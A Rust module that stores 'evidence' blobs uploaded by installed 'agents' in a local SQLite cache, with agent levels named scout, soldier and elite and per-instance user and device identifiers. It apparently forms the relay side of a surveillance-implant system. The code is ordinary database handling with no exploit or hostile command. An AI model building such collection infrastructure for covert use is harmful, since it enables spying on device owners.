//! Local evidence repository.
//!
//! Agents deposit evidence faster than the central database may accept it,
//! and the database may be gone entirely. Blobs land here first, scoped to
//! the agent instance, and the transfer workers drain them in id order.

use std::path::Path;

use rusqlite::{params, OptionalExtension};
use serde::{Deserialize, Serialize};
use tracing::debug;

use crate::cache::SqliteStore;
use crate::error::CacheError;
use crate::types::{AgentIdentity, AgentLevel, Platform};

const SCHEMA: &str = "
CREATE TABLE IF NOT EXISTS instances (
    instance TEXT PRIMARY KEY NOT NULL,
    ident TEXT NOT NULL,
    platform TEXT NOT NULL,
    demo INTEGER NOT NULL,
    level TEXT NOT NULL,
    agent_id TEXT,
    peer TEXT NOT NULL,
    user_id TEXT,
    device_id TEXT,
    source_id TEXT,
    sync_status TEXT NOT NULL,
    sync_time INTEGER
);
CREATE TABLE IF NOT EXISTS evidence (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    instance TEXT NOT NULL,
    content BLOB NOT NULL
);
CREATE INDEX IF NOT EXISTS evidence_instance ON evidence (instance, id);
";

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SyncStatus {
    Idle,
    InProgress,
    Ended,
    Timeout,
}

impl SyncStatus {
    fn as_str(&self) -> &'static str {
        match self {
            SyncStatus::Idle => "idle",
            SyncStatus::InProgress => "in_progress",
            SyncStatus::Ended => "ended",
            SyncStatus::Timeout => "timeout",
        }
    }

    fn parse(value: &str) -> Self {
        match value {
            "in_progress" => SyncStatus::InProgress,
            "ended" => SyncStatus::Ended,
            "timeout" => SyncStatus::Timeout,
            _ => SyncStatus::Idle,
        }
    }
}

/// What the relay knows about one installed agent.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InstanceInfo {
    pub identity: AgentIdentity,
    pub agent_id: Option<String>,
    pub peer: String,
    pub user_id: Option<String>,
    pub device_id: Option<String>,
    pub source_id: Option<String>,
    pub sync_status: SyncStatus,
    pub sync_time: Option<i64>,
}

pub struct EvidenceStore {
    store: SqliteStore,
}

impl EvidenceStore {
    pub fn open(path: impl AsRef<Path>) -> Result<Self, CacheError> {
        Ok(Self {
            store: SqliteStore::open(path.as_ref(), SCHEMA)?,
        })
    }

    pub fn in_memory() -> Result<Self, CacheError> {
        Ok(Self {
            store: SqliteStore::in_memory(SCHEMA)?,
        })
    }

    /// Records a handshake. Identification fields and a known agent id are
    /// kept when the new handshake does not carry them.
    pub async fn register(
        &self,
        identity: &AgentIdentity,
        agent_id: Option<&str>,
        peer: &str,
    ) -> Result<(), CacheError> {
        let identity = identity.clone();
        let (agent_id, peer) = (agent_id.map(str::to_string), peer.to_string());
        self.store
            .run(move |conn| {
                conn.execute(
                    "INSERT INTO instances (instance, ident, platform, demo, level, agent_id, peer, sync_status)
                     VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, 'idle')
                     ON CONFLICT(instance) DO UPDATE SET
                        ident = excluded.ident,
                        platform = excluded.platform,
                        demo = excluded.demo,
                        level = excluded.level,
                        agent_id = COALESCE(excluded.agent_id, instances.agent_id),
                        peer = excluded.peer",
                    params![
                        identity.instance,
                        identity.ident,
                        identity.platform.name(),
                        identity.demo,
                        identity.level.as_str(),
                        agent_id,
                        peer
                    ],
                )
            })
            .await?;
        Ok(())
    }

    pub async fn set_identification(
        &self,
        instance: &str,
        user_id: &str,
        device_id: &str,
        source_id: &str,
    ) -> Result<(), CacheError> {
        let fields = [instance, user_id, device_id, source_id].map(str::to_string);
        self.store
            .run(move |conn| {
                conn.execute(
                    "UPDATE instances SET user_id = ?2, device_id = ?3, source_id = ?4 WHERE instance = ?1",
                    params![fields[0], fields[1], fields[2], fields[3]],
                )
            })
            .await?;
        Ok(())
    }

    pub async fn set_agent_id(&self, instance: &str, agent_id: &str) -> Result<(), CacheError> {
        let (instance, agent_id) = (instance.to_string(), agent_id.to_string());
        self.store
            .run(move |conn| {
                conn.execute(
                    "UPDATE instances SET agent_id = ?2 WHERE instance = ?1",
                    params![instance, agent_id],
                )
            })
            .await?;
        Ok(())
    }

    pub async fn set_sync_status(&self, instance: &str, status: SyncStatus, time: i64) -> Result<(), CacheError> {
        let instance = instance.to_string();
        self.store
            .run(move |conn| {
                conn.execute(
                    "UPDATE instances SET sync_status = ?2, sync_time = ?3 WHERE instance = ?1",
                    params![instance, status.as_str(), time],
                )
            })
            .await?;
        Ok(())
    }

    pub async fn instance(&self, instance: &str) -> Result<Option<InstanceInfo>, CacheError> {
        let key = instance.to_string();
        let row = self
            .store
            .run(move |conn| {
                conn.query_row(
                    "SELECT ident, platform, demo, level, agent_id, peer, user_id, device_id, source_id,
                            sync_status, sync_time
                     FROM instances WHERE instance = ?1",
                    params![key],
                    |row| {
                        Ok((
                            row.get::<_, String>(0)?,
                            row.get::<_, String>(1)?,
                            row.get::<_, bool>(2)?,
                            row.get::<_, String>(3)?,
                            row.get::<_, Option<String>>(4)?,
                            row.get::<_, String>(5)?,
                            row.get::<_, Option<String>>(6)?,
                            row.get::<_, Option<String>>(7)?,
                            row.get::<_, Option<String>>(8)?,
                            row.get::<_, String>(9)?,
                            row.get::<_, Option<i64>>(10)?,
                        ))
                    },
                )
                .optional()
            })
            .await?;

        let Some((ident, platform, demo, level, agent_id, peer, user_id, device_id, source_id, status, time)) = row
        else {
            return Ok(None);
        };
        let platform = Platform::from_name(&platform)
            .ok_or_else(|| CacheError::Corrupt(format!("unknown platform {platform}")))?;
        let level = match level.as_str() {
            "scout" => AgentLevel::Scout,
            "soldier" => AgentLevel::Soldier,
            "elite" => AgentLevel::Elite,
            other => return Err(CacheError::Corrupt(format!("unknown level {other}"))),
        };
        Ok(Some(InstanceInfo {
            identity: AgentIdentity {
                ident,
                instance: instance.to_string(),
                platform,
                demo,
                level,
            },
            agent_id,
            peer,
            user_id,
            device_id,
            source_id,
            sync_status: SyncStatus::parse(&status),
            sync_time: time,
        }))
    }

    pub async fn store(&self, instance: &str, content: &[u8]) -> Result<i64, CacheError> {
        let size = content.len();
        let (owner, content) = (instance.to_string(), content.to_vec());
        let id = self
            .store
            .run(move |conn| {
                conn.execute(
                    "INSERT INTO evidence (instance, content) VALUES (?1, ?2)",
                    params![owner, content],
                )?;
                Ok(conn.last_insert_rowid())
            })
            .await?;
        debug!(instance, id, size, "evidence stored");
        Ok(id)
    }

    /// Instances with at least one evidence waiting.
    pub async fn pending_instances(&self) -> Result<Vec<String>, CacheError> {
        self.store
            .run(|conn| {
                let mut stmt = conn.prepare("SELECT DISTINCT instance FROM evidence ORDER BY instance")?;
                let rows = stmt.query_map([], |row| row.get(0))?;
                let instances: rusqlite::Result<Vec<String>> = rows.collect();
                instances
            })
            .await
    }

    /// Evidence ids of the instance, oldest first.
    pub async fn ids(&self, instance: &str) -> Result<Vec<i64>, CacheError> {
        let instance = instance.to_string();
        self.store
            .run(move |conn| {
                let mut stmt = conn.prepare("SELECT id FROM evidence WHERE instance = ?1 ORDER BY id ASC")?;
                let rows = stmt.query_map(params![instance], |row| row.get(0))?;
                let ids: rusqlite::Result<Vec<i64>> = rows.collect();
                ids
            })
            .await
    }

    pub async fn get(&self, id: i64) -> Result<Option<Vec<u8>>, CacheError> {
        self.store
            .run(move |conn| {
                conn.query_row(
                    "SELECT content FROM evidence WHERE id = ?1",
                    params![id],
                    |row| row.get(0),
                )
                .optional()
            })
            .await
    }

    pub async fn delete(&self, id: i64) -> Result<(), CacheError> {
        self.store
            .run(move |conn| conn.execute("DELETE FROM evidence WHERE id = ?1", params![id]))
            .await?;
        Ok(())
    }

    /// `(count, bytes)` still waiting for the instance.
    pub async fn pending(&self, instance: &str) -> Result<(u64, u64), CacheError> {
        let instance = instance.to_string();
        self.store
            .run(move |conn| {
                conn.query_row(
                    "SELECT COUNT(*), COALESCE(SUM(LENGTH(content)), 0) FROM evidence WHERE instance = ?1",
                    params![instance],
                    |row| Ok((row.get::<_, i64>(0)? as u64, row.get::<_, i64>(1)? as u64)),
                )
            })
            .await
    }

    /// Drops every evidence and the instance record itself.
    pub async fn purge(&self, instance: &str) -> Result<usize, CacheError> {
        let instance = instance.to_string();
        self.store
            .run(move |conn| {
                let tx = conn.unchecked_transaction()?;
                let removed = tx.execute("DELETE FROM evidence WHERE instance = ?1", params![instance])?;
                tx.execute("DELETE FROM instances WHERE instance = ?1", params![instance])?;
                tx.commit()?;
                Ok(removed)
            })
            .await
    }
}
